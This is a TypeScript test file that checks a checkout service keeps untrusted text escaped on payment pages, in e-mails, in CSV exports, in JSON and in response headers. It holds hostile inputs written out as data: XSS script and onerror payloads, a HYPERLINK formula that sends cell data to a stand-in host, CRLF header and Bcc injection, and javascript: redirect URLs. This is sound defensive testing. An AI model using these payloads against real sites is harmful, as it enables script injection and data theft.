// Every text of untrusted origin, stored as a store and its shoppers store it, and checked wherever it is shown: the payment page in its
// states, e-mails, messages, the panel's responses, a spreadsheet, response headers.
import { unaudited } from '../../../members/audit/testing/unaudited.ts';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { automate, engineOf, settle, sendEvent } from '../../../privacy/testing/full-purchase.ts';
import { saveAutomation } from '../../../automations/definitions/save-automation.ts';
import { setPaymentAccount } from '../../../providers/connections/testing/set-unverified.ts';
import { addShippingOption } from '../../../stores/shipping-options.ts';
import { startTestService, type TestService } from '../../../testing/test-service.ts';
import { unsubscribeLink } from '../../../base/links/unsubscribe-link.ts';
import { newUser, PanelBrowser, password } from '../panel/testing/browser.ts';

/** Ends a text, an attribute, a tag or a script, and starts an injected one. */
const evil = `"><script>evil()</script><img src=x onerror="evil()"> ' onfocus='evil()' </title></textarea>`;
const formula = '=HYPERLINK("https://mau.example/?"&A1,"Clique")';
/** A separate header line, or a separate response. */
const lines = 'Ana\r\nBcc: todos@mau.example\r\n\r\n<script>evil()</script>';

let service: TestService;
let browser: PanelBrowser;
let base: string;
const checkouts: string[] = [];

beforeAll(async () => {
  service = await startTestService();
  const { context, storeId } = service;
  await automate(service, storeId);
  await publish(storeId);
  await setPaymentAccount(context, storeId, { provider: 'sandbox', methods: ['pix', 'boleto', 'card'] }, unaudited);
  await addShippingOption(
    context.db,
    storeId,
    {
      name: evil.slice(0, 100),
      carrier: evil.slice(0, 100),
      price: 100,
      turnaroundMinDays: 1,
      turnaroundMaxDays: 2,
      freeAbove: null,
    },
    unaudited,
  );
  await newUser(service, 'dona@loja.example', 'owner');
  browser = new PanelBrowser(service);
  await browser.post('/sign-in', { email: 'dona@loja.example', password });
  base = `/stores/${storeId}`;
  expect(await browser.code(browser.post(`${base}/settings`, { name: evil, legalName: evil, address: evil }))).toBe(
    200,
  );
  for (const method of ['pix', 'boleto', null]) checkouts.push(await buy(method));
  for (const [id, name] of [
    ['1', evil],
    ['2', formula],
    ['3', lines],
  ] as const) {
    await sendEvent(service, service.secretKey, 'pix.generated', {
      order: {
        id: `${id}${evil}`,
        number: formula,
        total: 100,
        items: [{ title: evil, quantity: 1, unit_price: 100 }],
      },
      customer: { name, email: `cliente${id}@loja.example`, phone: '+5511987654321' },
      payment: { id: `pay-${id}`, provider: 'psp', pix: { payload: '000201' } },
    });
  }
  await settle(engineOf(service));
});
afterAll(() => service.stop());

/** An automation whose name and texts contain hostile input. */
async function publish(storeId: string): Promise<void> {
  const message = { name: 'send_whatsapp', data: { type: 'text', message: `{{customer.name}}` } };
  const mail = {
    name: 'send_email',
    data: {
      remetente_nome: 'Loja\r\nBcc: todos@mau.example',
      remetente_email: 'oi@loja.example',
      subject: 'Oi {{customer.name}}',
      html: '<p title="{{customer.name}}">{{customer.name}} {{order.number}}</p>',
    },
  };
  const steps = [message, mail].map((step) => ({ type: 'action', ...step }));
  const text = JSON.stringify({ name: formula, trigger_event: 'pix.generated', steps });
  const saved = await saveAutomation(
    { db: service.context.db, mode: 'off' },
    { storeId, text, publish: true },
    unaudited,
  );
  if (!saved.ok) throw new Error(JSON.stringify(saved));
}

/** A checkout with only hostile texts, continued as far as a payment method leads. */
async function buy(method: string | null): Promise<string> {
  const item = {
    title: evil,
    quantity: 1,
    unitPrice: 4990,
    image: `https://loja.example/${encodeURI(evil)}`,
    vendor: evil,
  };
  const cart = {
    items: [{ ...item, sku: evil, options: [{ name: evil, value: evil }], metadata: { note: evil } }],
    discounts: [{ title: evil, type: 'fixed', value: 100 }],
    requiresShipping: method !== 'pix',
  };
  const redirect = { cancelUrl: `https://loja.example/?${encodeURIComponent(evil)}` };
  const customer = { name: evil, email: 'ana@loja.example', phone: '+5511987654321' };
  const made = (await (await service.post({ cart, redirect, customer, metadata: { evil } })).json()) as {
    checkoutId: string;
  };
  const page = `${service.baseUrl}/pay/${made.checkoutId}`;
  const headers = { referer: `https://busca.example/?${encodeURIComponent(evil)}`, 'user-agent': evil };
  await fetch(`${page}?utm_source=${encodeURIComponent(evil)}`, { headers });
  const send = (path: string, form: Record<string, string>): Promise<Response> =>
    fetch(page + path, { method: 'POST', headers, body: new URLSearchParams(form), redirect: 'manual' });
  const address = {
    zipcode: '01001-000',
    street: evil,
    number: '7',
    complement: evil,
    neighborhood: evil,
    city: evil,
    state: 'SP',
  };
  const { rows } = await service.context.db.query<{ id: string }>(
    'select shipping_option_id as id from shipping_options',
  );
  const contact = { name: 'Ana Lima', email: 'ana@loja.example', phone: '11987654321', document: '52998224725' };
  await send('/data', { ...contact, ...address, shipping: rows[0]?.id ?? '', address_for: method ?? '' });
  if (method) await send('/pay', { method });
  return made.checkoutId;
}

/** Injected markup, or an injected attribute. */
const markup = /<script>evil|<img src=x|" onerror="evil|' onfocus='evil|<\/title><\/textarea>|href="javascript:/i;

describe('[CHK13] untrusted text stays text wherever it is shown', () => {
  const get = async (path: string): Promise<Response> => fetch(service.baseUrl + path, { redirect: 'manual' });

  test('on the payment page, in each of its states, and under a policy that would block it', async () => {
    let pages = 0;
    for (const id of checkouts) {
      for (const path of [
        '',
        '?method=card',
        '?method=boleto',
        '?edit',
        '?edit=boleto',
        '/boleto',
        `?x=${encodeURIComponent(evil)}`,
      ]) {
        const answer = await get(`/pay/${id}${path}`);
        if (answer.status !== 200) continue;
        const page = await answer.text();
        expect(page).not.toMatch(markup);
        if (page.includes('&lt;script&gt;evil()')) pages++;
        expect(answer.headers.get('content-security-policy')).toContain("default-src 'none'");
      }
    }
    expect(pages).toBeGreaterThan(5);
  });

  test('in a refused form, which shows the typed values unchanged', async () => {
    const form = new URLSearchParams({ name: evil, email: evil, phone: evil, document: evil, street: evil });
    const answer = await fetch(`${service.baseUrl}/pay/${checkouts[2]}/data`, { method: 'POST', body: form });
    const page = await answer.text();
    expect(answer.status).toBe(422);
    expect(page).toContain('&lt;script&gt;evil()');
    expect(page).not.toMatch(markup);
  });

  test('on the unsubscribe page', async () => {
    const { context, storeId } = service;
    const link = unsubscribeLink(context, { storeId, domain: null }, 'email', 'ana@loja.example')!;
    const page = await (await get(new URL(link).pathname)).text();
    expect(page).toContain('&lt;script&gt;evil()');
    expect(page).not.toMatch(markup);
  });

  test('in an e-mail, in its text and in an attribute; a sender is one line', async () => {
    const { rows } = await service.context.db.query<{ content: string }>(
      `select content::text from sandbox_messages where channel = 'email' and store_id = $1`,
      [service.storeId],
    );
    const contents = rows.map(({ content }) => JSON.parse(content) as { html: string; subject: string });
    expect(contents.some(({ html }) => html.includes('&lt;script&gt;evil()'))).toBe(true);
    for (const { html } of contents) expect(html).not.toMatch(markup);
    for (const { subject } of contents) expect(subject).not.toMatch(/\n[\w-]+:/);
  });

  test('in a spreadsheet, where no cell begins like a formula', async () => {
    const { csv } = (await browser.get(`${base}/runs/export`)).body as { csv: string };
    expect(csv).toContain('HYPERLINK');
    const cells = csv.matchAll(/(?:^|;|\r\n)(?:"((?:[^"]|"")*)"|([^;\r\n]*))/g);
    for (const [, quoted, unquoted] of cells) expect(quoted ?? unquoted).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('in the panel’s JSON, which no browser treats as a page', async () => {
    for (const path of ['/orders', '/runs', '/checkouts', '/contacts', '/messages', '/automations', '/inbox']) {
      const { headers, status, body } = await browser.get(base + path);
      expect([path, status, headers.get('content-type')]).toEqual([path, 200, 'application/json; charset=utf-8']);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(body['success']).toBe(true);
    }
  });

  test('in response headers, where no value starts another header', async () => {
    const paths = ['/c/x', '/l/x', '/o/x', `/pay/${checkouts[0]}`, '/panel/api/me', '/stores/external/checkout'];
    for (const path of paths) {
      const answer = await fetch(`${service.baseUrl}${path}?q=%0d%0aset-cookie:%20evil=1`, {
        headers: { 'x-request-id': 'evil%0d%0aset-cookie: evil=1', 'accept-language': evil, 'user-agent': evil },
        redirect: 'manual',
      });
      expect([...answer.headers].flat().join('\n')).not.toContain('evil');
    }
  });

  test.each([
    'javascript:evil()',
    'data:text/html,<script>evil()</script>',
    'JaVaScRiPt:evil()',
    '//mau.example',
    'https:\\\\mau',
  ])('an address of a cart cannot be %s', async (cancelUrl) => {
    const item = { title: 'Camiseta', quantity: 1, unitPrice: 100, image: 'https://loja.example/c.png' };
    const answer = await service.post({ cart: { items: [item] }, redirect: { cancelUrl } });
    expect(answer.status).toBe(400);
  });
});
